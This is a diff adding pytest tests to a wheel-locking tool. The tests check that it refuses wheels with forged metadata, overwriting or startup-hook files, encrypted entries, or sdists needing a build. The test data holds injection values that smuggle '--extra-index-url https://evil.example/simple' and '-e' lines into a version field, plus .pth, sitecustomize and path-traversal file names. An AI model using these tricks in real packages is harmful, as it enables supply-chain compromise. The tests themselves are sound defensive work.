@@ -1,7 +1,9 @@
 """What was judged is what is installed: a lock names each wheel by its digest."""
 
 import hashlib
+import io
 import shutil
+import tarfile
 import threading
 import zipfile
 from functools import partial
@@ -28,12 +30,15 @@ def wheels(tmp_path):
     return folder
 
 
-def made(folder, version):
+def made(folder, version, told="", **more):
     path = folder / f"acme_bells-{version}-py3-none-any.whl"
     info = f"acme_bells-{version}.dist-info"
+    told = told or f"Name: acme-bells\nVersion: {version}\n"
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("acme_bells.py", f"VERSION = {version!r}\n")
-        archive.writestr(f"{info}/METADATA", f"Metadata-Version: 2.4\nName: acme-bells\nVersion: {version}\n")
+        for name, content in more.items():
+            archive.writestr(name, content)
+        archive.writestr(f"{info}/METADATA", f"Metadata-Version: 2.4\n{told}")
         archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
         archive.writestr(f"{info}/RECORD", f"acme_bells.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n")
     return path
@@ -57,6 +62,54 @@ def test_what_cannot_be_locked_is_said(wheels, tmp_path):
     second.unlink()
     (wheels / "broken.whl").write_text("no wheel")
     assert "cannot be read as a wheel" in run("lock", "--wheels", wheels).output
+
+
+@pytest.mark.parametrize(
+    "told",
+    [
+        "Name: acme-bells\nVersion: 1.0 --hash=sha256:00\n --extra-index-url https://evil.example/simple\n #\n",
+        "Name: acme-bells\n -e /tmp/other\n #\nVersion: 1.0\n",
+        "Name: acme-horns\nVersion: 1.0\n",
+        "Name: acme-bells\nVersion: 2.0\n",
+        "Version: 1.0\n",
+    ],
+)
+def test_a_vendor_writes_no_line_of_a_lock(wheels, tmp_path, told):
+    made(wheels, "1.0", told)
+    refused = run("lock", "--wheels", wheels, "--output", tmp_path / "plugins.lock")
+    assert (refused.exit_code, "build it anew" in refused.output or "cannot be read" in refused.output) == (2, True)
+    assert not (tmp_path / "plugins.lock").exists()
+
+
+@pytest.mark.parametrize(
+    ("path", "what"),
+    [
+        ("parvis/web/more.py", "of parvis: do not install it"),
+        ("msgspec/__init__.py", "of msgspec: do not install it"),
+        ("acme.pth", "every program of this Python runs"),
+        ("json.py", "stands for a module of Python"),
+        ("../../more.py", "outside of its place"),
+        ("acme_bells-1.0.data/scripts/parvis", "the command parvis, which is of parvis"),
+        ("acme_bells-1.0.data/purelib/sitecustomize.py", "every program of this Python runs"),
+    ],
+)
+def test_a_wheel_that_would_overwrite_what_is_there_is_neither_checked_nor_locked(wheels, tmp_path, path, what):
+    wheel = made(wheels, "1.0", **{path: ""})
+    for ran in (run("lock", "--wheels", wheels, "--output", tmp_path / "plugins.lock"), run("check", wheel)):
+        assert (ran.exit_code, what in ran.output) == (2, True), ran.output
+    assert not (tmp_path / "plugins.lock").exists()
+
+
+def test_what_is_encrypted_is_no_wheel_and_no_fault_of_ours(wheels, tmp_path):
+    wheel = made(wheels, "1.0")
+    content = bytearray(wheel.read_bytes())
+    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = -1
+        while (at := content.find(mark, at + 1)) >= 0:
+            content[at + flags] |= 1
+    wheel.write_bytes(content)
+    assert "cannot be read as a wheel" in run("lock", "--wheels", wheels).output
+    assert "cannot be read as a wheel" in run("check", wheel).output
 
 
 @pytest.fixture
@@ -144,3 +197,29 @@ def test_what_an_index_gives_no_digest_of_is_not_locked(index, tmp_path, apart, 
     assert ran.exit_code == 2
     assert "gives no digest of acme-bells==1.0" in ran.output
     assert not (tmp_path / "plugins.lock").exists()
+
+
+def test_a_lock_that_names_nothing_installs_nothing(wheels, tmp_path, apart):
+    file = tmp_path / "plugins.lock"
+    file.write_text("# nothing\n", "utf-8")
+    ran = run("install", file, "--wheels", wheels)
+    assert (ran.exit_code, "names no wheel" in ran.output) == (2, True)
+
+
+def test_what_would_have_to_be_built_runs_nothing(wheels, tmp_path, apart):
+    for each in wheels.iterdir():
+        each.unlink()
+    with tarfile.open(wheels / "acme_bells-1.0.tar.gz", "w:gz") as archive:
+        backend = f"import pathlib\npathlib.Path({str(tmp_path / 'ran')!r}).touch()\n"
+        system = '[build-system]\nrequires = []\nbuild-backend = "acme"\nbackend-path = ["."]\n'
+        about = "Metadata-Version: 2.1\nName: acme-bells\nVersion: 1.0\n"
+        for name, words in (("PKG-INFO", about), ("acme.py", backend), ("pyproject.toml", system)):
+            content = words.encode()
+            member = tarfile.TarInfo(f"acme_bells-1.0/{name}")
+            member.size = len(content)
+            archive.addfile(member, io.BytesIO(content))
+    digest = hashlib.sha256((wheels / "acme_bells-1.0.tar.gz").read_bytes()).hexdigest()
+    (tmp_path / "plugins.lock").write_text(f"acme-bells==1.0 --hash=sha256:{digest}\n", "utf-8")
+    refused = run("install", tmp_path / "plugins.lock", "--wheels", wheels)
+    assert (refused.exit_code, "nothing was installed" in refused.output) == (2, True)
+    assert not (tmp_path / "ran").exists()
